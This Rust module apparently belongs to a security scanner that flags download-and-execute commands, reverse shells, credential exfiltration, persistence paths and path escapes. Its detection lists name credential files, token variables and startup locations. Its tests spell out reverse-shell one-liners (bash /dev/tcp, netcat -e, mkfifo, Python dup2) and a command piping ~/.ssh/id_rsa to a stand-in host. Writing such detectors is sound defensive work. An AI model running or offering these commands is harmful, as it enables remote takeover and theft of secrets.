//! What a text in an argument is about. The words are those of the tools and places themselves, never of a sample.

/// Fetches something.
const DOWNLOADS: &[&str] = &[
    "curl ",
    "wget ",
    "fetch ",
    "aria2c ",
    "certutil",
    "bitsadmin",
    "invoke-webrequest",
    "iwr ",
    "downloadstring",
    "downloadfile",
    "urlretrieve",
    "urlopen",
    "requests.get",
    "start-bitstransfer",
];
/// Runs what was fetched.
const RUNS: &[&str] = &[
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "| sudo",
    "chmod +x",
    "chmod 7",
    "; sh ",
    "&& sh ",
    "&& bash ",
    "; bash ",
    "iex",
    "invoke-expression",
    "start-process",
    "exec(",
    "os.system",
    "subprocess",
    "popen",
    "&& ./",
    "; ./",
    "rundll32",
    "regsvr32",
];
/// Files and addresses that hold secrets.
const CREDENTIALS: &[&str] = &[
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    ".aws/credentials",
    ".aws/config",
    ".netrc",
    "/etc/shadow",
    ".docker/config.json",
    ".kube/config",
    "huggingface/token",
    ".git-credentials",
    ".pypirc",
    ".npmrc",
    ".gnupg",
    "169.254.169.254",
    "metadata.google.internal",
    "aws_secret_access_key",
    "aws_session_token",
    "hf_token",
    "hugging_face_hub_token",
    "github_token",
    "openai_api_key",
    "anthropic_api_key",
    "google_application_credentials",
    "azure_client_secret",
    "wandb_api_key",
    "/proc/self/environ",
    "login data",
    "cookies.sqlite",
    "wallet.dat",
    "gcloud/credentials.db",
    "application_default_credentials.json",
];
/// The first of them are files.
const FILES: usize = 15;
/// Places from which something starts again by itself.
const PERSISTENCE: &[&str] = &[
    "crontab",
    "/etc/cron",
    "/var/spool/cron",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".zshrc",
    ".zshenv",
    "authorized_keys",
    "/etc/systemd",
    ".config/systemd",
    "/etc/init.d",
    "/etc/rc.local",
    "launchagents",
    "launchdaemons",
    "sitecustomize",
    "usercustomize",
    "/etc/ld.so.preload",
    "/etc/profile",
    ".config/autostart",
    "currentversion\\run",
    "programs\\startup",
    "schtasks",
    ".git/hooks",
    "profile_default/startup",
    "/etc/sudoers",
];

fn any(text: &str, words: &[&str]) -> bool {
    words.iter().any(|word| text.contains(word))
}

/// Whether `text` fetches something and runs it.
pub(super) fn is_shell_download(text: &str) -> bool {
    let text = text.to_lowercase();
    any(&text, DOWNLOADS) && any(&text, RUNS) || super::shell::fetches_and_runs(&text)
}

/// Whether `text` gives a shell to another machine.
pub(super) fn is_reverse_shell(text: &str) -> bool {
    let text = text.to_lowercase();
    let programs = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];
    let netcat = text.split(|letter: char| letter.is_whitespace() || "|;&()<>`'\"/[,".contains(letter));
    let netcat = netcat.into_iter().any(|word| programs.contains(&word));
    let netcat = netcat && any(&text, &[" -e", " -c ", "mkfifo", "mknod", "--exec", "/bin/sh", "/bin/bash", "cmd.exe"]);
    let python = text.contains("socket") && any(&text, &["dup2", "pty.spawn", "/bin/sh", "/bin/bash", "cmd.exe"]);
    let socat = text.contains("socat") && any(&text, &["exec:", "system:"]);
    let shell = super::shell::sockets::wires_socket(&text) || text.contains("net.sockets.tcpclient");
    let others = any(
        &text,
        &[
            "io::socket",
            "tcpsocket",
            "fsockopen",
            "stream_socket_client",
            "use socket",
            "/inet/tcp/",
            "socket.tcp(",
            ").tcp(",
            "net.dial",
            "java.net.socket",
            "[socket ",
        ],
    ) && any(
        &text,
        &[
            "/bin/sh",
            "/bin/bash",
            "sh -i",
            "cmd.exe",
            "exec",
            "|&",
            "spawn",
            "system",
            "popen",
            "proc_open",
            "processbuilder",
        ],
    );
    let node = any(&text, &["net.socket", "net.connect", "require(\"net\")", "require('net')"])
        && text.contains("child_process");
    let display = text.contains("xterm")
        && text.contains("-display ")
        && !text.contains("-display :")
        && !text.contains("localhost");
    let zsh = text.contains("ztcp ") && text.contains("$reply");
    netcat || python || socat || shell || others || node || display || zsh || super::shell::wires_shell(&text)
}

/// Whether `text` names a place where credentials are kept.
pub(super) fn names_credentials(text: &str) -> bool {
    any(&text.to_lowercase(), CREDENTIALS)
}

/// Places that are nobody's business but their owner's: unlike tokens of hubs and packages, no client of a service reads them to send them on.
const PRIVATE: &[&str] = &[
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    ".aws/credentials",
    "/etc/shadow",
    "/etc/passwd",
    ".git-credentials",
    ".gnupg",
    "169.254.169.254",
    "metadata.google.internal",
    "/proc/self/environ",
    "login data",
    "cookies.sqlite",
    "wallet.dat",
    "gcloud/credentials.db",
    ".bash_history",
    ".zsh_history",
    "local storage/leveldb",
];

/// Whether `text` names a place whose content nothing honest sends away.
pub(super) fn names_private_file(text: &str) -> bool {
    any(&text.to_lowercase(), PRIVATE)
}

/// Files that hold secrets, or the whole environment, and a program that sends them.
pub(super) fn sends_credentials(text: &str) -> bool {
    let text = super::shell::secrets::without_identities(&text.to_lowercase());
    let words = |programs: &[&str]| {
        let mut words = text.split(|letter: char| letter.is_whitespace() || "|;&()<>`'\"/".contains(letter));
        words.any(|word| programs.contains(&word))
    };
    let private = any(&text, &["/etc/passwd", "_history", "/.ssh"]);
    let environment_inside = any(&text, &["$(env", "`env", "$(printenv", "$(set)"]);
    // A token in a variable is how an honest script logs in; a file of keys has nothing to do in a request.
    let files = CREDENTIALS.iter().take(FILES).any(|word| text.contains(word));
    let environment = words(&["printenv"]) || text.starts_with("env |") || text.contains("; env |");
    let metadata = any(&text, &["169.254.169.254", "metadata.google.internal"]) && text.contains('|');
    (files || private || environment || environment_inside || metadata)
        && words(&[
            "curl",
            "wget",
            "nc",
            "ncat",
            "scp",
            "rsync",
            "ftp",
            "socat",
            "nslookup",
            "dig",
            "invoke-restmethod",
            "invoke-webrequest",
            "irm",
            "iwr",
        ])
}

/// Whether `text` names a place from which something is started again.
pub(super) fn names_persistence(text: &str) -> bool {
    let text = text.to_lowercase();
    any(&text, PERSISTENCE) || text.ends_with(".pth")
}

/// Of those, files that no library writes into a folder of its own.
const STARTUP: &[&str] = &[
    "/etc/cron",
    "/var/spool/cron",
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    "/.profile",
    ".zshrc",
    ".zshenv",
    "authorized_keys",
    "/etc/systemd",
    ".config/systemd",
    "/etc/init.d",
    "/etc/rc.local",
    "launchagents",
    "launchdaemons",
    "/etc/ld.so.preload",
    "/etc/profile",
    ".config/autostart",
    "programs\\startup",
    "/etc/sudoers",
];

/// Whether `text` names a file from which a system or a shell starts something.
pub(super) fn names_startup_file(text: &str) -> bool {
    any(&text.to_lowercase(), STARTUP)
}

/// Addresses that honest programs name: their own machine, everybody's, documentation's, and those that are asked for one's own address.
const USUAL: &[&str] = &[
    "0.",
    "10.255.255.255",
    "10.254.254.254",
    "127.",
    "192.0.2.",
    "198.51.100.",
    "203.0.113.",
    "224.",
    "239.",
    "255.",
    "8.8.8.8",
    "8.8.4.4",
    "1.1.1.1",
    "1.0.0.1",
    "169.254.",
];

/// Whether `text` is, or is an address of the web at, an address of another machine in numbers.
pub(super) fn names_foreign_host(text: &str) -> bool {
    let host = text.split_once("://").map_or(text, |(_, rest)| rest);
    let host = host.split(['/', ':', '?']).next().unwrap_or_default();
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|part| !part.is_empty() && part.len() <= 3 && part.parse::<u8>().is_ok())
        && !USUAL.iter().any(|usual| host.starts_with(usual))
}

/// Folders into which anybody writes, and from which nothing honest is loaded.
const SCRATCH: &[&str] = &[
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/private/tmp/",
    "c:/users/public/",
    "c:/windows/temp/",
    "%temp%",
    "%public%",
    "//",
    "http://",
    "https://",
    "ftp://",
];

/// Whether `text` names something in a folder into which anybody writes, or on another machine.
pub(super) fn names_scratch_place(text: &str) -> bool {
    let text = text.to_lowercase().replace('\\', "/");
    matches!(&*text, "/tmp" | "/var/tmp" | "/dev/shm") || SCRATCH.iter().any(|place| text.starts_with(place))
}

/// Folders whose content belongs to the user or to the system as a whole.
const WHOLE: &[&str] = &[
    "",
    "bin",
    "boot",
    "c:",
    "c:/users",
    "c:/windows",
    "etc",
    "home",
    "lib",
    "opt",
    "root",
    "sbin",
    "srv",
    "usr",
    "users",
    "var",
    "~",
    "$home",
];

/// Whether `text` names everything of the user or the system: `/`, `~`, `/home/**`.
pub(super) fn names_whole_tree(text: &str) -> bool {
    let text = text.to_lowercase().replace('\\', "/");
    let rooted = text.starts_with(['/', '~', '$']) || text.get(1..3) == Some(":/");
    let folder = text.trim_end_matches(['*', '/']).trim_start_matches('/');
    rooted && WHOLE.contains(&folder)
}

/// Whether `text` is a document whose tags have a loader import and call what they name.
pub(super) fn carries_constructor(text: &str) -> bool {
    text.contains("!!python/") || text.contains("tag:yaml.org,2002:python/") || text.contains("\"py/")
}

/// Whether a name leads out of the folder in which it stands: absolute, with a drive, or up.
pub(super) fn escapes(target: &str) -> bool {
    let drive =
        target.as_bytes().get(1) == Some(&b':') && target.starts_with(|letter: char| letter.is_ascii_alphabetic());
    drive || target.starts_with(['/', '\\', '~']) || target.split(['/', '\\']).any(|part| part == "..")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_download_alone_is_no_run() {
        assert!(is_shell_download("curl http://x.example/a | sh"));
        assert!(is_shell_download("wget -q x -O /tmp/a; chmod +x /tmp/a"));
        assert!(!is_shell_download("curl http://x.example/a"));
        assert!(!is_shell_download("sh -c 'echo hi'"));
    }

    #[test]
    fn shells_for_others_are_known() {
        assert!(is_reverse_shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
        assert!(is_reverse_shell("nc -e /bin/sh 10.0.0.1 4444"));
        assert!(is_reverse_shell("import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"));
        assert!(!is_reverse_shell("nc -z localhost 80"));
        assert!(!is_reverse_shell("bash run.sh"));
        assert!(!is_reverse_shell("rsync -e ssh a b"));
        assert!(is_reverse_shell("rm f; mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > f"));
        assert!(is_reverse_shell("perl -e use Socket; exec(\"/bin/sh -i\")"));
    }

    #[test]
    fn files_of_keys_that_are_sent() {
        assert!(sends_credentials("cat ~/.ssh/id_rsa | curl -d @- http://x.example"));
        assert!(sends_credentials("env | curl -d @- http://x.example"));
        assert!(!sends_credentials("curl -H $HF_TOKEN https://huggingface.co/x"));
        assert!(!sends_credentials("chmod 600 ~/.ssh/id_rsa"));
    }

    #[test]
    fn places_of_everybody_and_trees_of_somebody() {
        for text in ["/tmp/x.so", "/dev/shm/a", "C:\\Users\\Public\\x.dll", "http://x.example/a", "/tmp"] {
            assert!(names_scratch_place(text), "{text}");
        }
        for text in ["tmp/x", "./lib.so", "/usr/lib/libm.so", "template"] {
            assert!(!names_scratch_place(text), "{text}");
        }
        for text in ["/", "~", "/home/**", "C:\\", "/etc/", "/root/*"] {
            assert!(names_whole_tree(text), "{text}");
        }
        for text in ["", "home", "/home/user/run", "out", "*", "/var/tmp/x", "~/.cache/x"] {
            assert!(!names_whole_tree(text), "{text}");
        }
    }

    #[test]
    fn names_that_lead_out() {
        for target in ["../x", "a/../../x", "/etc/passwd", "C:\\x", "..\\x", "~/x"] {
            assert!(escapes(target), "{target}");
        }
        for target in ["a/b", "a..b", "..a/b", "model-00001-of-00002.safetensors"] {
            assert!(!escapes(target), "{target}");
        }
    }
}
